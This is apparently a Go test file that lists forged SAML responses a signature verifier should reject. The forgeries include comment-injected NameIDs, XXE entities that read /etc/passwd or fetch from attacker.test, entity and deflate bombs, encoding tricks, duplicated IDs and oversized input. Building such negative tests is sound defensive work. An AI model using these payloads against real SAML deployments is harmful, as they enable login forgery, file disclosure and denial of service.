package saml

import (
	"bytes"
	"compress/flate"
	"encoding/base64"
	"net/url"
	"strings"
	"unicode/utf16"
)

func before(prefix string) func(f *forge) {
	return func(f *forge) { f.final = func(s string) string { return prefix + s } }
}

func changed(from, to string) func(f *forge) {
	return func(f *forge) { f.beforeSigning = replacing(from, to) }
}

// xmlAttacks use what XML has and nobody needs here. What stands in the assertion is there before it is signed: the
// provider itself signs it, as when somebody's own name says such things.
func xmlAttacks() []attack {
	entity := `<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>`
	return []attack{
		{"comment that splits the NameID", reasonForbiddenXML, func(f *forge) { f.beforeEncryption = replacing(">ada<", ">ada<!-- -->.attacker.test<") }},
		{"comment in front of the NameID", reasonForbiddenXML, func(f *forge) { f.beforeEncryption = replacing(">ada<", "><!-- -->ada<") }},
		{"comment in a group", reasonForbiddenXML, func(f *forge) { f.beforeEncryption = replacing("staff", "sta<!-- -->ff") }},
		{"comment in the e-mail address", reasonForbiddenXML, func(f *forge) { f.beforeEncryption = replacing("Ada@acme.test", "Ada@acme.test<!-- -->.attacker.test") }},
		{"comment in the issuer", reasonForbiddenXML, func(f *forge) { f.final = replacing(testIDP, testIDP+"<!-- -->") }},
		{"comment in the audience", reasonForbiddenXML, func(f *forge) {
			f.final = replacing(testURLs.EntityID+"</saml:Audience>", testURLs.EntityID+"<!-- x --></saml:Audience>")
		}},
		{"comment in the digest", reasonForbiddenXML, func(f *forge) { f.final = replacing("</ds:DigestValue>", "<!-- x --></ds:DigestValue>") }},
		{"comment in front of the document", reasonForbiddenXML, before("<!-- x -->")},
		{"comment behind the document", reasonForbiddenXML, func(f *forge) { f.final = func(s string) string { return s + "<!-- x -->" } }},
		{"comment that doesn't end", reasonForbiddenXML, func(f *forge) { f.final = func(s string) string { return s + "<!-- x" } }},
		{"CDATA in the NameID", reasonForbiddenXML, func(f *forge) { f.beforeEncryption = replacing(">ada<", "><![CDATA[ada]]><") }},
		{"CDATA with markup", reasonForbiddenXML, func(f *forge) { f.beforeEncryption = replacing(">ada<", ">ada<![CDATA[</saml:NameID>]]><") }},
		{"processing instruction in the NameID", reasonForbiddenXML, func(f *forge) { f.beforeEncryption = replacing(">ada<", ">ada<?x y?>.attacker.test<") }},
		{"processing instruction for a style sheet", reasonForbiddenXML, before(`<?xml-stylesheet href="https://attacker.test"?>`)},
		{"second XML declaration", reasonForbiddenXML, before(`<?xml version="1.0"?><?xml version="1.0"?>`)},
		{"entity bomb", reasonForbiddenXML, func(f *forge) {
			f.final = func(s string) string { return entity + strings.Replace(s, ">ada<", ">&c;<", 1) }
		}},
		{"external entity", reasonForbiddenXML, before(`<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>`)},
		{"external parameter entity", reasonForbiddenXML, before(`<!DOCTYPE x [<!ENTITY % e SYSTEM "https://attacker.test/x"> %e;]>`)},
		{"external DTD", reasonForbiddenXML, before(`<!DOCTYPE x SYSTEM "https://attacker.test/x.dtd">`)},
		{"empty DOCTYPE", reasonForbiddenXML, before(`<!DOCTYPE samlp:Response>`)},
		{"DOCTYPE in small letters", reasonForbiddenXML, before(`<!doctype x>`)},
		{"identifiers by DTD", reasonForbiddenXML, before(`<!DOCTYPE x [<!ATTLIST saml:Subject X ID #IMPLIED>]>`)},
		{"DOCTYPE inside of the document", reasonForbiddenXML, func(f *forge) { f.final = replacing("<samlp:Status>", "<!DOCTYPE x><samlp:Status>") }},
		{"entity without a declaration", reasonMalformed, changedAfter(">ada<", ">&mallory;<")},
		{"UTF-16", reasonEncoding, func(f *forge) { f.final = func(s string) string { return utf16Of(s, true) } }},
		{"UTF-16 without byte order mark", reasonEncoding, func(f *forge) { f.final = func(s string) string { return utf16Of(s, false) } }},
		{"UTF-16 declared", reasonEncoding, before(`<?xml version="1.0" encoding="UTF-16"?>`)},
		{"UTF-7 declared", reasonEncoding, before(`<?xml version="1.0" encoding="UTF-7"?>`)},
		{"ISO-8859-1 declared", reasonEncoding, before(`<?xml version="1.0" encoding='ISO-8859-1'?>`)},
		{"byte order mark", reasonEncoding, before("\ufeff")},
		{"invalid UTF-8", reasonEncoding, changedAfter(">ada<", ">ad\xff<")},
		{"overlong UTF-8", reasonEncoding, changedAfter(">ada<", ">\xc0\xbcada<")},
		{"NUL byte", reasonEncoding, changedAfter(">ada<", ">ada\x00<")},
		{"control character", reasonMalformed, changedAfter(">ada<", ">ad\x01<")},
		{"XML 1.1", reasonMalformed, before(`<?xml version="1.1"?>`)},
		{"two documents", reasonMalformed, func(f *forge) { f.final = func(s string) string { return s + s } }},
		{"text behind the document", reasonMalformed, func(f *forge) { f.final = func(s string) string { return s + "x" } }},
		{"text in front of the document", reasonMalformed, before("x")},
		{"cut off in the middle", reasonMalformed, func(f *forge) { f.final = func(s string) string { return s[:len(s)/2] } }},
		{"cut off before the last tag", reasonMalformed, func(f *forge) { f.final = func(s string) string { return strings.TrimSuffix(s, "</samlp:Response>") } }},
		{"end tags crossed", reasonMalformed, func(f *forge) { f.final = replacing("</samlp:Status>", "</saml:Status>") }},
		{"attribute without quotes", reasonMalformed, func(f *forge) { f.final = replacing(`Version="2.0"`, `Version=2.0`) }},
		{"markup in an attribute", reasonMalformed, func(f *forge) { f.final = replacing(`Version="2.0"`, `Version="<x>"`) }},
		{"HTML", reasonStructure, func(f *forge) { f.final = func(string) string { return "<html><br><p>Sign in</html>" } }},
		{"JSON", reasonMalformed, func(f *forge) { f.final = func(string) string { return `{"user":"ada"}` } }},
		{"empty document", reasonMalformed, func(f *forge) { f.final = func(string) string { return "\n" } }},
	}
}

func changedAfter(from, to string) func(f *forge) {
	return func(f *forge) { f.final = replacing(from, to) }
}

func utf16Of(s string, mark bool) string {
	var b strings.Builder
	if mark {
		b.WriteString("\xfe\xff")
	}
	for _, u := range utf16.Encode([]rune(s)) {
		b.WriteByte(byte(u >> 8))
		b.WriteByte(byte(u))
	}
	return b.String()
}

// nameAttacks play with namespaces, names and identifiers.
func nameAttacks() []attack {
	return []attack{
		{"response of a foreign namespace", reasonStructure, func(f *forge) {
			f.final = func(s string) string { return strings.ReplaceAll(s, nsProtocol+`"`, nsAssertion+`"`) }
		}},
		{"response without a namespace", reasonForbiddenXML, func(f *forge) { f.final = replacing(` xmlns:samlp="`+nsProtocol+`"`, "") }},
		{"namespace with a slash behind", reasonStructure, func(f *forge) { f.final = replacing(`xmlns:samlp="`+nsProtocol+`"`, `xmlns:samlp="`+nsProtocol+`/"`) }},
		{"prefix rebound inside", reasonStructure, func(f *forge) {
			f.beforeSigning = replacing("<saml:NameID Format", `<saml:NameID xmlns:saml="urn:evil" Format`)
		}},
		{"prefix undeclared", reasonForbiddenXML, func(f *forge) {
			f.beforeEncryption = func(s string) string { return strings.ReplaceAll(s, "saml:NameID", "zzz:NameID") }
		}},
		{"prefix unbound", reasonForbiddenXML, func(f *forge) { f.final = replacing("<samlp:Status>", `<samlp:Status xmlns:samlp="">`) }},
		{"prefix xml rebound", reasonForbiddenXML, func(f *forge) { f.final = replacing("<samlp:Status>", `<samlp:Status xmlns:xml="urn:x">`) }},
		{"prefix xmlns declared", reasonForbiddenXML, func(f *forge) { f.final = replacing("<samlp:Status>", `<samlp:Status xmlns:xmlns="urn:x">`) }},
		{"namespace of XML bound to another prefix", reasonForbiddenXML, func(f *forge) { f.final = replacing("<samlp:Status>", `<samlp:Status xmlns:q="`+nsXML+`">`) }},
		{"namespace declared twice", reasonForbiddenXML, func(f *forge) {
			f.final = replacing("<samlp:Status>", `<samlp:Status xmlns:q="urn:q" xmlns:q="urn:r">`)
		}},
		{"declaration that is called ID", reasonSignatureShape, func(f *forge) {
			f.beforeEncryption = replacing(`ID="_assertion1"`, `xmlns:ID="_assertion1" ID="_assertion2"`)
		}},
		{"ID by a prefix", reasonStructure, func(f *forge) {
			f.beforeEncryption = replacing(`ID="_assertion1"`, `xmlns:q="urn:q" q:ID="_assertion1" ID="_evil"`)
		}},
		{"ID twice", reasonForbiddenXML, func(f *forge) { f.beforeEncryption = replacing(`ID="_assertion1"`, `ID="_assertion1" ID="_evil"`) }},
		{"ID that two elements share", reasonStructure, func(f *forge) { f.assertionID = f.responseID; f.signAssertion, f.signResponse = false, true }},
		{"ID missing in the response", reasonStructure, func(f *forge) { f.final = replacing(`ID="_response1"`, "") }},
		{"ID missing in the assertion", reasonSignatureShape, func(f *forge) { f.beforeEncryption = replacing(`ID="_assertion1"`, "") }},
		{"ID with unusual characters", reasonStructure, func(f *forge) { f.final = replacing(`ID="_response1"`, `ID="x' or '1'='1"`) }},
		{"ID in small letters that repeats one", reasonStructure, func(f *forge) { f.final = replacing("<samlp:Status>", `<samlp:Status id="_assertion1">`) }},
		{"xml:id", reasonStructure, func(f *forge) { f.final = replacing("<samlp:Status>", `<samlp:Status xml:id="_x">`) }},
		{"xml:base", reasonStructure, func(f *forge) {
			f.final = replacing("<samlp:Status>", `<samlp:Status xml:base="https://attacker.test/">`)
		}},
		{"type of the assertion replaced", reasonStructure, changed(`ID="_assertion1"`, `xmlns:xsi="`+nsXSI+`" xsi:type="saml:Evil" ID="_assertion1"`)},
		{"type of the NameID replaced", reasonStructure, changed("<saml:NameID Format", `<saml:NameID xmlns:xsi="`+nsXSI+`" xsi:type="x" Format`)},
		{"foreign element in the subject", reasonStructure, changed("<saml:Subject>", `<saml:Subject><x xmlns="urn:x"/>`)},
		{"foreign element in the response", reasonStructure, func(f *forge) { f.final = replacing("<samlp:Status>", `<x xmlns="urn:x"/><samlp:Status>`) }},
		{"name with two colons", reasonMalformed, func(f *forge) { f.final = replacing("<samlp:Status>", `<samlp:Status a:b:c="x">`) }},
		{"name that begins with a colon", reasonForbiddenXML, func(f *forge) { f.final = replacing("<samlp:Status>", `<samlp:Status :ID="x">`) }},
		{"name of Cyrillic letters", reasonForbiddenXML, changed("</saml:Subject>", "</saml:Subject><saml:Аssertion/>")},
		{"element in the wrong case", reasonStructure, changed("</saml:Subject>", "</saml:Subject><saml:assertion/>")},
	}
}

// boundAttacks are too large.
func boundAttacks() []attack {
	return []attack{
		{"300 KiB", reasonTooLarge, changed(">ada<", ">"+strings.Repeat("a", 300<<10)+"<")},
		{"255 KiB of spaces in the NameID", reasonSubject, changed(">ada<", ">"+strings.Repeat(" ", 240<<10)+"<")},
		{"10 MiB of base64", reasonTooLarge, func(f *forge) { f.form = func(v url.Values) { v.Set("SAMLResponse", strings.Repeat("A", 10<<20)) } }},
		{"100,000 deep", reasonTooLarge, func(f *forge) {
			f.final = func(string) string { return strings.Repeat("<a>", 40000) + strings.Repeat("</a>", 40000) }
		}},
		{"1,000 deep in an attribute", reasonTooLarge, changed(">Ada Lovelace<", ">"+strings.Repeat("<a xmlns='urn:a'>", 1000)+strings.Repeat("</a>", 1000)+"<")},
		{"10,000 elements", reasonTooLarge, changed(">Ada Lovelace<", ">"+strings.Repeat("<a xmlns='urn:a'/>", 10000)+"<")},
		{"1,000 attributes", reasonTooLarge, func(f *forge) {
			f.final = replacing("<samlp:Status>", "<samlp:Status "+numbered(`a%="1" `, 1000)+">")
		}},
		{"1,000 namespaces", reasonTooLarge, func(f *forge) {
			f.final = replacing("<samlp:Status>", "<samlp:Status "+numbered(`xmlns:a%="urn:%" `, 1000)+">")
		}},
		{"namespaces piled up", reasonTooLarge, changed(">Ada Lovelace<", ">"+pile(12, 20)+"<")},
		{"signature value of 100 KiB", reasonSignature, func(f *forge) { f.onAssertion.value = func(string) string { return strings.Repeat("AAAA", 25<<10) } }},
		{"deflated, as the other binding has it", reasonEncoding, func(f *forge) { f.final = deflated }},
		{"deflate bomb", reasonEncoding, func(f *forge) { f.final = func(string) string { return deflated(strings.Repeat("a", 50<<20)) } }},
	}
}

func numbered(s string, n int) string {
	var b strings.Builder
	for i := range n {
		b.WriteString(strings.ReplaceAll(s, "%", itoa(i)))
	}
	return b.String()
}

func itoa(i int) string {
	return string([]byte{'a' + byte(i/676%26), 'a' + byte(i/26%26), 'a' + byte(i%26)})
}

func pile(depth, each int) string {
	var b strings.Builder
	for d := range depth {
		b.WriteString("<a xmlns='urn:a' ")
		for i := range each {
			b.WriteString("xmlns:n" + itoa(d*each+i) + "='urn:n' ")
		}
		b.WriteString(">")
	}
	return b.String() + strings.Repeat("</a>", depth)
}

func deflated(s string) string {
	var b bytes.Buffer
	w, err := flate.NewWriter(&b, 9)
	if err != nil {
		panic(err)
	}
	if _, err := w.Write([]byte(s)); err != nil {
		panic(err)
	}
	if err := w.Close(); err != nil {
		panic(err)
	}
	return b.String()
}

// formAttacks are about how the response is posted.
func formAttacks() []attack {
	form := func(name, reason string, change func(v url.Values)) attack {
		return attack{name, reason, func(f *forge) { f.form = change }}
	}
	return []attack{
		form("no response", reasonForm, func(v url.Values) { v.Del("SAMLResponse") }),
		form("empty response", reasonForm, func(v url.Values) { v.Set("SAMLResponse", "") }),
		form("two responses", reasonForm, func(v url.Values) { v.Add("SAMLResponse", v.Get("SAMLResponse")) }),
		form("two relay states", reasonForm, func(v url.Values) { v["RelayState"] = []string{"a", "b"} }),
		form("artifact", reasonForm, func(v url.Values) { v.Set("SAMLart", "AAQAAA==") }),
		form("request beside the response", reasonForm, func(v url.Values) { v.Set("SAMLRequest", "x") }),
		form("detached signature", reasonForm, func(v url.Values) { v.Set("SigAlg", rsa256); v.Set("Signature", "x") }),
		form("no base64", reasonMalformed, func(v url.Values) { v.Set("SAMLResponse", "%%%") }),
		form("base64 for addresses", reasonMalformed, func(v url.Values) { v.Set("SAMLResponse", "_-_-") }),
		form("base64 without padding", reasonMalformed, func(v url.Values) { v.Set("SAMLResponse", "PGE+PA") }),
		form("base64 with stray bits", reasonMalformed, func(v url.Values) { v.Set("SAMLResponse", "PGE+PB==") }),
		form("base64 with text behind", reasonMalformed, func(v url.Values) { v.Set("SAMLResponse", v.Get("SAMLResponse")+"====x") }),
		form("base64 twice", reasonMalformed, func(v url.Values) {
			v.Set("SAMLResponse", base64.StdEncoding.EncodeToString([]byte(v.Get("SAMLResponse"))))
		}),
	}
}
